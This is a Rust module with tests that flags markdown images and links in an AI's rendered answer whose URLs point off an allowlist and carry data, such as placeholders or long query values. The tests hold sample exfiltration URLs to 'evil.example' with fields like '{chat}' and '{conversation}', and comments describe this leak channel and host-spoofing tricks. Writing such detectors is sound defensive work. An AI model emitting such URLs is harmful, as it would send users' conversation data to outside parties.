//! Images and links that can carry data off: where they point, and whether that is allowed.
//!
//! An image is fetched as soon as the answer is rendered and a link on a click, so either can
//! send off what its URL carries. Images and links to the whole web are ordinary content,
//! though: one counts when its host is not on the allowlist and its URL carries data or asks for
//! it — a query or fragment value of 32+ characters, a template placeholder (`{data}`,
//! `[SECRET]`, `<summary>`, `$X`, or their percent-encoded forms), or an empty value at the end
//! for the model to fill in. A URL that carries nothing can leak nothing. Not covered: data in
//! the path (`https://evil.example/<data>.png`), which looks like any path; and signed URLs
//! (long signature values) on hosts not allowed, which count: allow their hosts.

use super::Error;

/// How far a URL is read: past this, nothing more is learned and the scan must stay bounded.
const URL_REACH: usize = 2048;

/// A query or fragment value this long is data, not a page id.
const DATA_VALUE: usize = 32;

/// A host images and links may point to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostPattern {
    /// The host, or for a wildcard the domain under it; lowercase, without a trailing dot.
    host: String,
    /// `*.host`: any subdomain of `host`, not `host` itself.
    subdomains: bool,
}

impl HostPattern {
    /// Reads `example.com` or `*.example.com` (case-insensitive).
    pub fn parse(pattern: &str) -> Result<Self, Error> {
        let invalid = |reason| Error::HostPattern {
            pattern: pattern.to_owned(),
            reason,
        };
        let lower = pattern.trim().trim_end_matches('.').to_ascii_lowercase();
        let (subdomains, host) = match lower.strip_prefix("*.") {
            Some(rest) => (true, rest),
            None => (false, lower.as_str()),
        };
        if host.is_empty() {
            return Err(invalid("no host"));
        }
        if host.contains('*') {
            return Err(invalid("`*` may only be a leading `*.`"));
        }
        let label_ok = |l: &str| {
            !l.is_empty()
                && l.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        };
        if !host.split('.').all(label_ok) {
            return Err(invalid(
                "a host is dot-separated labels of letters, digits and `-`",
            ));
        }
        Ok(Self {
            host: host.to_owned(),
            subdomains,
        })
    }

    /// Whether `host` (lowercase) is covered.
    pub fn matches(&self, host: &str) -> bool {
        if self.subdomains {
            host.len() > self.host.len()
                && host.ends_with(&self.host)
                && host.as_bytes()[host.len() - self.host.len() - 1] == b'.'
        } else {
            host == self.host
        }
    }
}

/// Whether the URL whose authority starts at `text[at..]` (just past its `//`) can leak: on a
/// host not allowed, carrying data.
pub(super) fn leaks(text: &str, at: usize, allowed: &[HostPattern]) -> bool {
    let url = bounded_url(&text[at..]);
    let Some(host) = host_of(url) else {
        return false;
    };
    if allowed.iter().any(|p| p.matches(&host)) {
        return false;
    }
    carries_data(url)
}

/// The URL from its authority up to where it ends (whitespace, a closing bracket or quote), at
/// most [`URL_REACH`] bytes.
fn bounded_url(rest: &str) -> &str {
    let end = rest
        .char_indices()
        .take_while(|(i, _)| *i < URL_REACH)
        .find(|(_, c)| c.is_whitespace() || matches!(c, ')' | '>' | '"' | '\'' | '<'))
        .map_or(rest.len().min(URL_REACH), |(i, _)| i);
    // The cut must fall on a character boundary: back off to one.
    let mut end = end.min(rest.len());
    while !rest.is_char_boundary(end) {
        end -= 1;
    }
    &rest[..end]
}

/// The host of a URL starting at its authority: lowercase, without user info, port or trailing
/// dot. Browsers read `\` as `/`, so it ends the authority too.
fn host_of(url: &str) -> Option<String> {
    let authority = url.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    // `https://allowed.example@evil.example/` goes to evil.example.
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        host_port.split(':').next().unwrap_or_default()
    };
    let host = host.trim_end_matches('.');
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// Whether a URL's query or fragment carries data or asks for it.
fn carries_data(url: &str) -> bool {
    let Some(cut) = url.find(['?', '#']) else {
        return false;
    };
    let tail = &url[cut + 1..];
    let lower = tail.to_ascii_lowercase();
    let placeholder = tail.contains(['{', '}', '[', ']', '<', '>', '$'])
        || ["%7b", "%7d", "%5b", "%5d", "%3c", "%3e", "%24"]
            .iter()
            .any(|p| lower.contains(p));
    let long_value = tail.split(['&', ';', '#', '?']).any(|pair| {
        pair.rsplit('=')
            .next()
            .is_some_and(|v| v.len() >= DATA_VALUE)
    });
    placeholder || long_value || tail.ends_with('=')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed(patterns: &[&str]) -> Vec<HostPattern> {
        patterns
            .iter()
            .map(|p| HostPattern::parse(p).expect("valid"))
            .collect()
    }

    #[test]
    fn host_patterns_parse_and_match() {
        let exact = HostPattern::parse("Example.COM.").expect("valid");
        assert!(exact.matches("example.com"));
        assert!(!exact.matches("www.example.com"));
        let wild = HostPattern::parse("*.example.com").expect("valid");
        assert!(wild.matches("cdn.example.com") && wild.matches("a.b.example.com"));
        assert!(!wild.matches("example.com") && !wild.matches("badexample.com"));
        for bad in [
            "",
            "*",
            "a.*.com",
            "exa mple.com",
            "example..com",
            "*.",
            "ex/ample",
        ] {
            assert!(
                matches!(HostPattern::parse(bad), Err(Error::HostPattern { .. })),
                "{bad:?}"
            );
        }
    }

    #[test]
    fn hosts_are_read_as_a_browser_would() {
        assert_eq!(
            host_of("Evil.Example:8443/x").as_deref(),
            Some("evil.example")
        );
        assert_eq!(
            host_of("ok.example@evil.example/p").as_deref(),
            Some("evil.example")
        );
        assert_eq!(
            host_of("evil.example\\@ok.example/").as_deref(),
            Some("evil.example")
        );
        assert_eq!(host_of("[::1]:80/").as_deref(), Some("::1"));
        assert_eq!(host_of("/path"), None);
    }

    #[test]
    fn urls_leak_off_list_and_with_data() {
        let ok = allowed(&["docs.example.com", "*.cdn.example.com"]);
        let at = |t: &str| t.find("//").expect("url") + 2;
        for (link, leaky) in [
            ("![x](https://evil.example/logo.png?w=800&q=80)", false),
            ("![x](https://img.cdn.example.com/l.png?d={chat})", false),
            ("![x](https://evil.example/l.png?d={chat})", true),
            ("[a](https://evil.example/page?id=42)", false),
            ("[a](https://evil.example/p?d={conversation})", true),
            ("[a](https://evil.example/p?q=)", true),
            (
                "[a](https://evil.example/p?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)",
                true,
            ),
            ("[a](https://docs.example.com/p?q=)", false),
        ] {
            assert_eq!(leaks(link, at(link), &ok), leaky, "{link}");
        }
    }
}
